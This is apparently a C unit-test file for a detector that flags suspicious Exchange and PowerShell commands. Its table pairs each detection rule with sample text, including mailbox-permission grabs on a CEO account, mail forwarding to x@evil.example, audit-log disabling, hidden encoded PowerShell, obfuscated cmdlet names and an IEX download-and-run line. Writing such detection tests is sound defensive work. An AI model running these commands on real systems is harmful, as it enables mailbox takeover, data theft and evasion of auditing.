/* rules: every rule finds what it says, and leaves alone what only looks like it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "analyze/rules/rules.h"
#include "base/buf.h"

/* "VwBy..." below is UTF-16LE text in base64, as -EncodedCommand takes it. */
static const struct row {
    const char *rule, *found, *left_alone;
} ROWS[] = {
    {"mailbox_permission_added", "add-mailboxpermission ceo -User eve -AccessRights FullAccess",
     "Get-MailboxPermission ceo; Add-MailboxFolderPermission x"},
    {"mailbox_permission_bulk",
     "Get-EXOMailbox -ResultSize Unlimited | Add-CloudMailboxPermission -User eve",
     "Get-Mailbox ceo; Add-MailboxPermission ceo -User eve"},
    {"mailbox_permission_unseen", "Add-MailboxPermission ceo -User eve -AutoMapping:$false",
     "Add-MailboxPermission ceo -User eve -AutoMapping $true"},
    {"mailbox_permission_removed", "Remove\xE2\x80\x93MailboxPermission ceo -User eve",
     "Remove\xE2\x80\x90MailboxPermission ceo (U+2010 is no dash to PowerShell)"},
    {"recipient_permission_added", "Add-RecipientPermission ceo -Trustee eve -AccessRights SendAs",
     "Get-RecipientPermission ceo"},
    {"ad_permission_added", "Add-ADPermission 'CN=CEO' -User eve -ExtendedRights \"Send As\"",
     "Add-ADPermission 'CN=CEO' -User eve -AccessRights ReadProperty"},
    {"recipient_permission_removed", "Remove-RecipientPermission ceo -Trustee eve",
     "Remove-Recipient ceo"},
    {"folder_permission_given", "Set-MailboxFolderPermission ceo:\\Inbox -User eve",
     "Remove-MailboxFolderPermission ceo:\\Inbox -User eve"},
    {"folder_permission_everyone",
     "Set-MailboxFolderPermission -Identity ceo:\\ -User 'Default' -AccessRights Reviewer",
     "Set-MailboxFolderPermission ceo:\\ -User eve -AccessRights Reviewer # not Default"},
    {"public_folder_permission_added", "Add-PublicFolderClientPermission \\Board -User eve",
     "Get-PublicFolderClientPermission \\Board"},
    {"calendar_published", "Set-MailboxCalendarFolder ceo:\\Calendar -PublishEnabled $true",
     "Set-MailboxCalendarFolder ceo:\\Calendar -PublishEnabled $false"},
    {"send_on_behalf_given", "Set-Mailbox ceo -GrantSendOnBehalfTo @{Add='eve'}",
     "Get-Mailbox ceo | select GrantSendOnBehalfTo"},
    {"calendar_delegates_set", "Set-CalendarProcessing room1 -ResourceDelegates eve",
     "Set-CalendarProcessing room1 -AutomateProcessing AutoAccept"},
    {"mailbox_forwarding_set", "Set-Mailbox ceo -ForwardingSmtpAddress x@evil.example",
     "Set-Mailbox ceo -DisplayName 'Forwarding'"},
    {"inbox_rule_forwards", "New-InboxRule -Name . -RedirectTo x@evil.example",
     "New-InboxRule -Name 'ForwardTo' -MarkAsRead $true"},
    {"inbox_rule_hides", "New-InboxRule -Name . -From bank -MoveToFolder 'RSS Feeds'",
     "New-InboxRule -Name . -ForwardTo x@evil.example"},
    {"transport_rule_copies", "New-TransportRule -Name t -BlindCopyTo x@evil.example",
     "New-TransportRule -Name t -PrependSubject '[EXT]'"},
    {"transport_rule_hides", "New-TransportRule -Name t -From soc@corp -DeleteMessage $true",
     "New-TransportRule -Name DeleteMessage -PrependSubject x"},
    {"journal_rule_set", "New-JournalRule -Name j -JournalEmailAddress x@evil.example",
     "Get-JournalRule -Name j"},
    {"auto_forward_allowed", "Set-RemoteDomain Default -AutoForwardEnabled $true",
     "Set-RemoteDomain Default -AutoForwardEnabled $false"},
    {"impersonation_given", "New-ManagementRoleAssignment -Role:ApplicationImpersonation -User eve",
     "New-ManagementRoleAssignment -Role 'View-Only Recipients' -User eve"},
    {"management_role_assigned", "New-ManagementRoleAssignment -Role 'Mail Recipients' -User eve",
     "Get-ManagementRoleAssignment -RoleAssignee eve"},
    {"role_group_member_given", "Update-RoleGroupMember 'Organization Management' -Members eve",
     "Get-RoleGroupMember 'Organization Management'"},
    {"service_principal_registered", "New-ServicePrincipal -AppId 1 -ObjectId 2 -DisplayName app",
     "Get-ServicePrincipal -Identity app"},
    {"application_access_widened", "Remove-ApplicationAccessPolicy -Identity p",
     "Get-ApplicationAccessPolicy"},
    {"audit_bypass_set", "Set-MailboxAuditBypassAssociation eve -AuditBypassEnabled $true",
     "Set-MailboxAuditBypassAssociation eve -AuditBypassEnabled $false"},
    {"audit_log_disabled", "Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $false",
     "Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $true"},
    {"audit_log_narrowed", "Set-AdminAuditLogConfig -AdminAuditLogCmdlets Get-*",
     "Get-AdminAuditLogConfig -AdminAuditLogCmdlets"},
    {"mailbox_audit_disabled", "Set-OrganizationConfig -AuditDisabled $true",
     "Set-Mailbox ceo -AuditEnabled $true"},
    {"mailbox_audit_purged", "Set-Mailbox ceo -AuditLogAgeLimit 00:00:00",
     "Search-MailboxAuditLog ceo"},
    {"audit_agent_disabled", "Disable-CmdletExtensionAgent 'Admin Audit Log Agent'",
     "Get-CmdletExtensionAgent 'Admin Audit Log Agent'"},
    {"audit_retention_removed", "Remove-UnifiedAuditLogRetentionPolicy p",
     "Get-UnifiedAuditLogRetentionPolicy"},
    {"exchange_online_connected", "Connect-ExchangeOnline -UserPrincipalName a@b.example",
     "Disconnect-ExchangeOnline"},
    {"exchange_session_imported",
     "$s = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri "
     "http://mx/PowerShell/",
     "New-PSSession -ComputerName mx"},
    {"exchange_snapin_loaded", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn",
     "Add-PSSnapin VMware.VimAutomation"},
    {"exchange_rest_invoked",
     "POST https://outlook.office365.com/adminapi/beta/contoso.example/InvokeCommand",
     "GET https://outlook.office365.com/adminapi/beta/contoso.example/Mailbox"},
    {"exchange_module_installed", "Install-Module -Name ExchangeOnlineManagement -Force",
     "Install-Module -Name ImportExcel"},
    {"encoded_command_line", "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA",
     "powershell.exe -ExecutionPolicy Bypass -File averyveryverylongscriptname.ps1"},
    {"encoded_cmdlet_name",
     "FromBase64String('QQBkAGQALQBNAGEAaQBsAGIAbwB4AFAAZQByAG0AaQBzAHMAaQBvAG4A')",
     "FromBase64String('VwByAGkAdABlAC0ASABvAHMAdAAgADEAVwByAGkAdABlAC0ASABvAHMAdAA=')"},
    {"ticked_cmdlet_name", "Add-MailboxPerm`ission ceo eve",
     "Add-MailboxPermission `\r\n  -Identity ceo `\r\n  -User eve"},
    {"joined_cmdlet_name", "& ('Add-Mail' + 'boxPermission') ceo eve",
     "Write-Host ('The mailbox ' + $name + ' has a new permission')"},
    {"joined_characters", "[char]65+[char]100+[char]100+[char]45", "[char]65; [char]66"},
    {"cmdlet_found_by_wildcard", "&(gcm *d-M*xPerm*) ceo eve", "Get-Command Add-MailboxPermission"},
    {"expression_from_text", "IEX \"Add-MailboxPermission $m\"", "iex (iwr https://x.example/a)"},
};
enum { ROW_COUNT = sizeof ROWS / sizeof ROWS[0] };

struct bench {
    struct rules *rules;
    struct rule_scanner *scanner;
    struct arena *arena;
};

static int set_up(void **state) {
    static struct bench b;
    struct error e = {0};
    b.rules = rules_load(NULL, &e);
    if (!b.rules) fail_msg("%s", e.text);
    b.scanner = rules_scanner(b.rules, &e);
    b.arena = arena_new(0);
    *state = &b;
    return 0;
}

static int tear_down(void **state) {
    struct bench *b = *state;
    rules_scanner_free(b->scanner);
    rules_free(b->rules);
    arena_free(b->arena);
    return 0;
}

static bool matches(struct bench *b, const char *rule, const char *text) {
    struct rule_match *list;
    const char *reason = "";
    int n = rules_scan(b->scanner, b->arena, str_from(text), &list, &reason);
    if (n < 0) fail_msg("%s", reason);
    for (int i = 0; i < n; i++)
        if (str_eq(list[i].rule, str_from(rule))) return true;
    return false;
}

static void test_every_rule_finds_its_text_and_leaves_the_other(void **state) {
    for (size_t i = 0; i < ROW_COUNT; i++) {
        if (!matches(*state, ROWS[i].rule, ROWS[i].found))
            fail_msg("%s does not match: %s", ROWS[i].rule, ROWS[i].found);
        if (matches(*state, ROWS[i].rule, ROWS[i].left_alone))
            fail_msg("%s matches: %s", ROWS[i].rule, ROWS[i].left_alone);
    }
}

static const struct row *row_of(struct str rule) {
    for (size_t i = 0; i < ROW_COUNT; i++)
        if (str_eq(rule, str_from(ROWS[i].rule))) return &ROWS[i];
    return NULL;
}

static bool is_severity(struct str s) {
    return str_eq(s, STR("low")) || str_eq(s, STR("medium")) || str_eq(s, STR("high"));
}

static void test_every_rule_has_both_texts_and_its_meta(void **state) {
    struct bench *b = *state;
    struct rule_match *list;
    size_t n = rules_list(b->rules, b->arena, &list);
    assert_true(n > 0);
    for (size_t i = 0; i < n; i++) {
        const struct row *row = row_of(list[i].rule);
        if (!row || !row->found[0] || !row->left_alone[0])
            fail_msg("%.*s has no text to match and one to leave alone", STR_ARG(list[i].rule));
        if (!is_severity(list[i].severity) || !str_starts(list[i].technique, STR("T")) ||
            !list[i].description.n)
            fail_msg("%.*s lacks severity, technique or description", STR_ARG(list[i].rule));
    }
}

static void test_matches_come_sorted_by_name(void **state) {
    struct bench *b = *state;
    struct rule_match *list;
    const char *reason;
    int n = rules_scan(b->scanner, b->arena,
                       STR("Set-Mailbox a -ForwardingSmtpAddress x; Connect-ExchangeOnline; "
                           "Add-MailboxPermission a"),
                       &list, &reason);
    assert_int_equal(n, 3);
    for (int i = 1; i < n; i++) assert_true(str_cmp(list[i - 1].rule, list[i].rule) < 0);
}

static void test_empty_text_matches_nothing(void **state) {
    struct bench *b = *state;
    struct rule_match *list;
    const char *reason;
    assert_int_equal(rules_scan(b->scanner, b->arena, STR_NONE, &list, &reason), 0);
}

static void test_a_plain_name_beside_is_no_disguise(void **state) {
    assert_true(matches(*state, "ticked_cmdlet_name",
                        "Get-Mailbox x; A`dd-Mail`boxPermission x y; Add-MailboxPermission z y"));
}

/* `gap` blanks between the call and its parameter. */
static bool forwarding_over(struct bench *b, int gap) {
    struct buf text = {0};
    buf_add_z(&text, "Set-Mailbox ceo");
    while (gap--) buf_add_c(&text, ' ');
    buf_add_z(&text, "-ForwardingSmtpAddress x@evil.example");
    buf_add_c(&text, 0);
    bool found = matches(b, "mailbox_forwarding_set", text.p);
    buf_free(&text);
    return found;
}

static void test_call_and_parameter_may_lie_on_several_lines_but_not_apart(void **state) {
    assert_true(matches(*state, "mailbox_forwarding_set",
                        "Set-Mailbox `\r\n -Identity ceo `\r\n -ForwardingAddress eve"));
    assert_true(forwarding_over(*state, 450));
    assert_false(forwarding_over(*state, 600));
}

static void test_parameters_in_a_hashtable_before_the_call_are_seen(void **state) {
    assert_true(matches(*state, "mailbox_permission_unseen",
                        "$p = @{ Identity = 'ceo'; AutoMapping = $false }\n"
                        "Add-MailboxPermission @p"));
    assert_true(matches(*state, "mailbox_forwarding_set",
                        "$p=@{ForwardingSmtpAddress='x@evil.example'}; Set-Mailbox ceo @p"));
    assert_false(matches(*state, "mailbox_permission_unseen",
                         "$p = @{ AutoMapping = $true }; Add-MailboxPermission @p"));
}

/* Half a megabyte of beginnings without an end: what makes a net slow. */
static void test_repeated_beginnings_do_not_run_out_of_time(void **state) {
    struct buf text = {0};
    while (text.n < 512 * 1024) buf_add_z(&text, "Set-Mailbox Add-MailboxPermission ");
    buf_add_c(&text, 0);
    assert_true(matches(*state, "mailbox_permission_added", text.p));
    buf_free(&text);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_rule_finds_its_text_and_leaves_the_other),
        cmocka_unit_test(test_every_rule_has_both_texts_and_its_meta),
        cmocka_unit_test(test_matches_come_sorted_by_name),
        cmocka_unit_test(test_empty_text_matches_nothing),
        cmocka_unit_test(test_a_plain_name_beside_is_no_disguise),
        cmocka_unit_test(test_call_and_parameter_may_lie_on_several_lines_but_not_apart),
        cmocka_unit_test(test_parameters_in_a_hashtable_before_the_call_are_seen),
        cmocka_unit_test(test_repeated_beginnings_do_not_run_out_of_time),
    };
    return cmocka_run_group_tests_name("rules: texts", tests, set_up, tear_down);
}
